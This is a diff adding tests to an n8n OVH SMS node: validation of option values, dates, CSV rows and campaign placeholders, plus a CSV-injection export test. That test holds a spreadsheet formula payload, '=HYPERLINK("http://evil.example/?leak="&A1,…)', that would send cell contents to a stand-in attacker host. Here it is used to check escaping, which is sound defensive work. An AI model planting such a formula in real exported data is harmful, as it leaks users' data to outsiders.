@@ -8,6 +8,7 @@ import type { ICredentialDataDecryptedObject, IDataObject, INodeExecutionData } 
 import { OvhSmsAddressBook } from '../../../nodes/OvhSmsAddressBook/OvhSmsAddressBook.node';
 import { registerNodeType, runNode, type RunResult } from '../../support/n8nEngine';
 import { jsonOf, sendParameters, useNodeHarness } from '../ovhSms/helpers';
+import { sandboxClient } from '../trigger/support';
 
 registerNodeType('n8n-nodes-ovh-sms.ovhSmsAddressBook', new OvhSmsAddressBook());
 
@@ -54,13 +55,31 @@ const BINARY_JUNK = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919
 
 describe('Send: one bad item among good ones', () => {
 	// Item 1 is the bad one; items 0 and 2 are good and must still go out.
-	const good = (n: number) => ({ phone: `+3361111110${n}`, msg: 'Your parcel arrives tomorrow', sender: 'MyCompany', sendAt: '' });
+	// Every option comes from an expression, as from a mapped field or an AI agent's $fromAI:
+	// the good items give good values, the bad one a value the editor would not let through.
+	const goodOptions = {
+		sendAt: '',
+		maxParts: 6,
+		tag: 'promo',
+		validityPeriod: 2880,
+		class: 'phoneDisplay',
+		priority: 'high',
+		noStopClause: false,
+		transliteration: 'none',
+		dryRun: false,
+		maxReceiversPerJob: 500,
+		parallelJobs: 4,
+	};
+	const good = (n: number) => ({ phone: `+3361111110${n}`, msg: 'Your parcel arrives tomorrow', sender: 'MyCompany', ...goodOptions });
 	const parameters = sendParameters({
 		receivers: '={{ $json.phone }}',
 		message: '={{ $json.msg }}',
 		sender: { __rl: true, mode: 'id', value: '={{ $json.sender }}' },
-		options: { sendAt: '={{ $json.sendAt }}' },
+		options: Object.fromEntries(Object.keys(goodOptions).map((name) => [name, `={{ $json.${name} }}`])),
 	});
+	const literal = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+	const refused = (field: string, rule: string, value: string) =>
+		new RegExp(`^${literal(`"${field}" must be ${rule}, not ${value}; nothing was sent [item 1]`)}$`);
 	const rows: Array<{ input: string; bad: IDataObject; parameters?: IDataObject; error: RegExp | null; sentTo?: string }> = [
 		{ input: 'Malformed number', bad: { phone: '+33 6 12 ab 56' }, error: /^No valid phone number in "Phone Numbers": "\+33 6 12 ab 56" contains letters \[item 1\]$/ },
 		{ input: 'Malformed number (too short)', bad: { phone: '+33 6 12' }, error: /"\+33 6 12" wrong length for France: 3 digits after \+33, expected 9 \[item 1\]$/ },
@@ -96,6 +115,44 @@ describe('Send: one bad item among good ones', () => {
 			error: /^"Send At" is in the past: 2020-01-01T10:00:00\+00:00 \(more than 5 minutes before now\); nothing was sent \[item 1\]$/,
 		},
 		{ input: 'Send At not a date', bad: { sendAt: 'tomorrow' }, error: /^"Send At" is not a date and time: tomorrow \[item 1\]$/ },
+		{
+			input: 'Send At in 2206 (credits would be debited now)',
+			bad: { sendAt: '2206-05-01T10:00:00Z' },
+			error: /^"Send At" is more than 365 days ahead: 2206-05-01T10:00:00\+00:00; nothing was sent \[item 1\]$/,
+		},
+		{ input: 'Send At in 9999 (differedPeriod above 2³¹)', bad: { sendAt: '9999-12-31T00:00:00Z' }, error: /^"Send At" is more than 365 days ahead: 9999-12-31/ },
+		{
+			input: 'Maximum Parts "six" from an expression, 14-part message',
+			bad: { maxParts: 'six', msg: 'a'.repeat(2000) },
+			error: refused('Maximum Parts', 'a whole number from 1 to 255', '"six"'),
+		},
+		{ input: 'Maximum Parts 0', bad: { maxParts: 0 }, error: refused('Maximum Parts', 'a whole number from 1 to 255', '0') },
+		{ input: 'Maximum Parts 2.5', bad: { maxParts: 2.5 }, error: refused('Maximum Parts', 'a whole number from 1 to 255', '2.5') },
+		{ input: 'Maximum Parts "3" as text (a CSV or form field)', bad: { maxParts: '3' }, error: null, sentTo: '+33611111101' },
+		{
+			input: 'Tag of 42 characters',
+			bad: { tag: 'spring-promotion-for-our-loyal-customers-1' },
+			error: /^"Tag" has 42 characters, more than the 20 allowed: "spring-promotion-for-our-loyal-customers-1"; nothing was sent \[item 1\]$/,
+		},
+		{ input: 'Tag that is an object', bad: { tag: { a: 1 } }, error: refused('Tag', 'a text of at most 20 characters', '{"a":1}') },
+		{
+			input: 'Validity Period "two days"',
+			bad: { validityPeriod: 'two days' },
+			error: refused('Validity Period (Minutes)', 'a whole number from 1 to 2147483647', '"two days"'),
+		},
+		{ input: 'Validity Period -5', bad: { validityPeriod: -5 }, error: refused('Validity Period (Minutes)', 'a whole number from 1 to 2147483647', '-5') },
+		{ input: 'Class "loud"', bad: { class: 'loud' }, error: refused('Class', 'one of "flash", "phoneDisplay", "sim"', '"loud"') },
+		{ input: 'Priority "urgent"', bad: { priority: 'urgent' }, error: refused('Priority', 'one of "high", "low", "medium", "veryLow"', '"urgent"') },
+		{ input: 'Not Commercial "yes please"', bad: { noStopClause: 'yes please' }, error: refused('Not Commercial', 'true or false', '"yes please"') },
+		{ input: 'Not Commercial "false" as text', bad: { noStopClause: 'false' }, error: null, sentTo: '+33611111101' },
+		{ input: 'Transliteration "strong"', bad: { transliteration: 'strong' }, error: refused('Transliteration', 'one of "none", "safe", "lossy"', '"strong"') },
+		{ input: 'Dry Run "maybe"', bad: { dryRun: 'maybe' }, error: refused('Dry Run', 'true or false', '"maybe"') },
+		{
+			input: 'Maximum Receivers per Job 0',
+			bad: { maxReceiversPerJob: 0 },
+			error: refused('Maximum Receivers per Job', 'a whole number from 1 to 10000', '0'),
+		},
+		{ input: 'Parallel Jobs "many"', bad: { parallelJobs: 'many' }, error: refused('Parallel Jobs', 'a whole number from 1 to 16', '"many"') },
 	];
 
 	test.each(rows)('$input', async ({ input, bad, parameters: overrides, error, sentTo }) => {
@@ -170,6 +227,30 @@ describe('Send: CSV files', () => {
 			error: /^CSV file "customers\.csv": This is not a text file \(\d+ control characters in its first 4,096 characters, the first at position \d+\): is it really a CSV file\? \[item 0\]$/,
 		},
 		{ input: 'Empty CSV file', file: '', error: /^CSV file "customers\.csv": The file has no rows \[item 0\]$/ },
+		{
+			input: 'Four numbers on one line (one-column header, comma-separated)',
+			file: 'phone\n+33611111101\n+33611111102, +33611111103, +33611111104, +33611111105\n+33611111106\n',
+			sent: ['+33611111101', '+33611111106'],
+			invalid: [{ line: 3, reason: /^holds 4 phone numbers \(3 of them beyond the header's 1 column\): put one number per row; none of them was sent$/ }],
+		},
+		{
+			input: 'Two numbers in the number cell (a quoted list)',
+			file: 'name;phone\nAnn;+33611111101\nBob;"+33611111102, 06 11 11 11 03"\n',
+			sent: ['+33611111101'],
+			invalid: [{ line: 3, reason: /^holds 2 phone numbers: put one number per row; none of them was sent$/ }],
+		},
+		{
+			input: 'Numbers the reader would ignore (no header, two numbers a row)',
+			file: '+33611111101;+33611111102\n+33611111103;+33611111104\n',
+			parameters: { csvHeader: 'no' },
+			sent: [],
+			error: /^No valid phone number in CSV file "customers\.csv" \(2 rows\): line 1: "\+33611111101" holds 2 phone numbers \(1 of them in other columns\): put one number per row/,
+		},
+		{
+			input: 'A 20 MB line (no line break)',
+			file: `phone\n+33611111101\n${'1234567890;'.repeat(2_000_000)}\n+33611111103\n`,
+			error: /^CSV file "customers\.csv": Line 3 is longer than 65,536 characters: is this really a CSV file of receivers\? Nothing was read from it \[item 0\]$/,
+		},
 	];
 
 	test.each(rows)('$input', async ({ input, file, parameters: overrides, error, sent, invalid }) => {
@@ -196,6 +277,31 @@ describe('Send: CSV files', () => {
 		note(input, `sent to ${sent!.length}; ${reported.map((r) => `line ${r.line}: ${r.reason}`).join('; ') || 'nothing rejected'}`);
 		expect(receiversSent()).toEqual([...sent!, '+33699999901'].sort());
 		expect(creditsLeft()).toBe(CREDITS - sent!.length - 1);
+	});
+
+	test('a send to more receivers than "List Receivers up To" (1,000) outputs counts and the first invalid rows, not every number', async () => {
+		const lines = ['phone'];
+		for (let i = 0; i < 1_500; i++) lines.push(i % 100 === 7 ? `bad ${i}` : `+3361${String(i).padStart(7, '0')}`);
+		const file = lines.join('\n');
+		const result = await harness.run(csvParameters(), [csvItem(file)]);
+		expect(result.status).toBe('success');
+		const [out] = jsonOf(result);
+		expect(out).toMatchObject({ status: 'sent', summarised: true, validReceiverCount: 1_485, idCount: 1_485, invalidReceiverCount: 15, duplicateReceiverCount: 0 });
+		expect(out.validReceivers).toBeUndefined();
+		expect(out.ids).toBeUndefined();
+		expect((out.invalidReceivers as IDataObject[])[0]).toEqual({ receiver: 'bad 7', reason: 'contains letters', line: 9 });
+		expect(harness.allSms()).toHaveLength(1_485);
+		expect(creditsLeft()).toBe(CREDITS - 1_485);
+		// Every SMS is found by the output's tags.
+		const tags = new Set(out.tags as string[]);
+		expect(harness.allSms().every((sms) => tags.has(sms.tag!))).toBe(true);
+		note('CSV of 1,500 rows (15 bad), List Receivers up To 1,000 (default)', `summarised: validReceiverCount 1485, idCount 1485, invalidReceiverCount 15, the first 100 invalid rows, tags`);
+
+		harness.sandbox.reset();
+		harness.sandbox.setCredits(CREDITS);
+		const listed = await harness.run(csvParameters({ options: { listReceiversUpTo: 2_000, dryRun: true } }), [csvItem(file)]);
+		expect(jsonOf(listed)[0]).toMatchObject({ status: 'dryRun', receiverCount: 1_485 });
+		expect(jsonOf(listed)[0].validReceivers).toHaveLength(1_485);
 	});
 
 	test('1 million rows: a dry run reads and prices them all; a real send the account cannot pay is refused before any job', async () => {
@@ -377,6 +483,8 @@ describe('Campaign: bad input stops one campaign before anything is created', ()
 		campaignMessage: '={{ $json.message }}',
 		startMode: 'scheduled',
 		startAt: '={{ $json.startAt }}',
+		dryRun: '={{ $json.dryRun }}',
+		campaignOptions: { tag: '={{ $json.tag }}', defaultCountry: '={{ $json.country }}' },
 	};
 	const file = 'number;firstname\n+33611111101;Ann\n';
 	const rows: Array<{ input: string; file: string | Buffer; bad?: IDataObject; error: RegExp }> = [
@@ -384,6 +492,25 @@ describe('Campaign: bad input stops one campaign before anything is created', ()
 		{ input: 'Campaign: no usable number in the file', file: 'number;firstname\nabc;Ann\n06 12;Bob\n', error: /^No receiver to send to \(line 2: contains letters; line 3: wrong length for France/ },
 		{ input: 'Campaign: start date in the past', file, bad: { startAt: '2020-01-01T10:00:00Z' }, error: /^The start time 2020-01-01T10:00:00\.000Z is in the past/ },
 		{ input: 'Campaign: empty message', file, bad: { message: ' ' }, error: /^"Message" is empty: nothing was created$/ },
+		{
+			input: 'Campaign: start date in 2206',
+			file,
+			bad: { startAt: '2206-05-01T10:00:00Z' },
+			error: /^The start time 2206-05-01T10:00:00\.000Z is more than 365 days ahead: check the year/,
+		},
+		{
+			input: 'Campaign: Tag of 42 characters',
+			file,
+			bad: { tag: 'spring-promotion-for-our-loyal-customers-1' },
+			error: /^"Tag" has 42 characters, more than the 20 allowed: "spring-promotion-for-our-loyal-customers-1"; nothing was created \[item 0\]$/,
+		},
+		{ input: 'Campaign: Dry Run "maybe"', file, bad: { dryRun: 'maybe' }, error: /^"Dry Run" must be true or false, not "maybe"; nothing was created \[item 0\]$/ },
+		{
+			input: 'Campaign: Default Country "France"',
+			file,
+			bad: { country: 'France' },
+			error: /^"Default Country" must be one of "FR", "BE", .*, not "FRANCE"; nothing was created \[item 0\]$/,
+		},
 		{
 			input: 'Campaign: unknown placeholder column',
 			file,
@@ -406,6 +533,79 @@ describe('Campaign: bad input stops one campaign before anything is created', ()
 		expect(other.status).toBe('INSERTED');
 		expect(Object.keys(harness.account().batches)).toHaveLength(1);
 		expect(creditsLeft()).toBe(CREDITS - 1);
+	});
+});
+
+describe('Campaign: an empty or missing placeholder value', () => {
+	// Rows 3 and 5 have an empty first name, row 4 none at all: "Hello , your order is ready." by mistake.
+	const file = 'number;firstname\n+33611111101;Ann\n+33611111102;\n+33611111103\n+33611111104;  \n';
+	const parameters = (extra: IDataObject = {}): IDataObject => ({
+		resource: 'campaign',
+		operation: 'create',
+		campaignName: 'Order ready',
+		senderMode: 'sender',
+		campaignSender: { __rl: true, mode: 'id', value: 'MyCompany' },
+		campaignRecipients: 'csv',
+		binaryPropertyName: 'data',
+		phoneColumn: 'number',
+		campaignMessage: 'Hello #firstname#, your order is ready.',
+		startMode: 'now',
+		...extra,
+	});
+	const rejectedRows = [
+		{ line: 3, value: '+33611111102', reason: 'no value for #firstname#' },
+		{ line: 4, value: '+33611111103', reason: 'no value for #firstname#' },
+		{ line: 5, value: '+33611111104', reason: 'no value for #firstname#' },
+	];
+
+	test('rejects those rows with their line by default; the others are sent', async () => {
+		const result = await harness.run(parameters(), [csvItem(file)]);
+		expect(result.status).toBe('success');
+		const [out] = jsonOf(result);
+		expect(out).toMatchObject({ rejectedCount: 3, rejected: rejectedRows });
+		note('Campaign: empty or missing placeholder value (3 rows of 4)', `created for 1 receiver; rejected: ${rejectedRows.map((r) => `line ${r.line}: ${r.reason}`).join('; ')}`);
+		expect(creditsLeft()).toBe(CREDITS - 1);
+	});
+
+	test('the dry run reports the same rows', async () => {
+		const result = await harness.run(parameters({ dryRun: true }), [csvItem(file)]);
+		const [out] = jsonOf(result);
+		expect(out).toMatchObject({ dryRun: true, rejectedCount: 3, rejected: rejectedRows, estimate: { recipients: 1 } });
+		expect(creditsLeft()).toBe(CREDITS);
+	});
+
+	test('"Fallback for Empty Values" sends them with that text instead', async () => {
+		const result = await harness.run(parameters({ campaignOptions: { emptyValueFallback: 'dear customer' } }), [csvItem(file)]);
+		const [out] = jsonOf(result);
+		expect(out).toMatchObject({ rejectedCount: 0, estimate: { recipients: 4, longestMessage: 'Hello dear customer, your order is ready.' } });
+		note('Campaign: the same file, Fallback for Empty Values "dear customer"', 'created for 4 receivers, "Hello dear customer, your order is ready."');
+		expect(creditsLeft()).toBe(CREDITS - 4);
+	});
+});
+
+describe('Estimate: options from expressions are checked like typed ones', () => {
+	const parameters: IDataObject = {
+		resource: 'sms',
+		operation: 'estimate',
+		senderKind: '={{ $json.senderKind }}',
+		message: 'a'.repeat(2000),
+		recipientCount: '={{ $json.count }}',
+		options: { maxParts: '={{ $json.maxParts }}', transliteration: '={{ $json.transliteration }}' },
+	};
+	const good = { senderKind: 'alpha', count: 10, maxParts: 6, transliteration: 'none' };
+	const rows: Array<{ input: string; bad: IDataObject; error: RegExp }> = [
+		{ input: 'Estimate: Maximum Parts "six"', bad: { maxParts: 'six' }, error: /^"Maximum Parts" must be a whole number from 1 to 255, not "six"; nothing was estimated \[item 1\]$/ },
+		{ input: 'Estimate: Number of Recipients "ten"', bad: { count: 'ten' }, error: /^"Number of Recipients" must be a whole number from 0 to 100000000, not "ten"; nothing was estimated \[item 1\]$/ },
+		{ input: 'Estimate: Sender Kind "bank"', bad: { senderKind: 'bank' }, error: /^"Sender Kind" must be one of "alpha", "numeric", "shortcode", "virtual", not "bank"; nothing was estimated \[item 1\]$/ },
+		{ input: 'Estimate: Transliteration "strong"', bad: { transliteration: 'strong' }, error: /^"Transliteration" must be one of "none", "safe", "lossy", not "strong"; nothing was estimated \[item 1\]$/ },
+	];
+	test.each(rows)('$input', async ({ input, bad, error }) => {
+		const result = await harness.run(parameters, [good, { ...good, ...bad }, good], { continueOnFail: true });
+		expectPaired(result, 3);
+		const out = jsonOf(result);
+		expect(out[1].error).toMatch(error);
+		note(input, String(out[1].error));
+		for (const index of [0, 2]) expect(out[index]).toMatchObject({ withinMaxParts: false, maxParts: 6, creditsNeeded: 140 });
 	});
 });
 
@@ -476,5 +676,20 @@ describe('Address Book import: CSV files', () => {
 			expect(contacts()).toEqual([...created!, '+33699999901'].sort());
 		}
 		expect(creditsLeft()).toBe(CREDITS);
+	});
+
+	test('Export: a contact named like a spreadsheet formula is written as text (CSV injection)', async () => {
+		const client = sandboxClient(harness.sandbox);
+		const path = `/sms/${harness.sandbox.serviceName}/phonebooks/${bookKey}/phonebookContact`;
+		const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+		await client.post(path, { group: 'VIP', name: '@SUM(1+1)', surname: formula, homeMobile: '+33611111101' });
+		await client.post(path, { group: 'VIP', name: 'Ann', surname: 'Dupont', homeMobile: '+33611111102' });
+		const result = await runBook({ resource: 'addressBook', operation: 'export', addressBook: { __rl: true, mode: 'id', value: bookKey }, binaryPropertyName: 'data' });
+		expect(result.status).toBe('success');
+		const csv = Buffer.from(result.output[0].binary!.data.data, 'base64').toString('utf8');
+		const lines = csv.trim().split('\n').sort();
+		expect(lines).toContain(`VIP;"'@SUM(1+1)";"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")";+33611111101;;;`);
+		expect(lines).toContain('VIP;Ann;Dupont;+33611111102;;;');
+		note('Export: contact named =HYPERLINK(…), first name @SUM(1+1)', `written as "'=HYPERLINK(…)" and "'@SUM(1+1)": text in a spreadsheet; phone numbers unchanged`);
 	});
 });
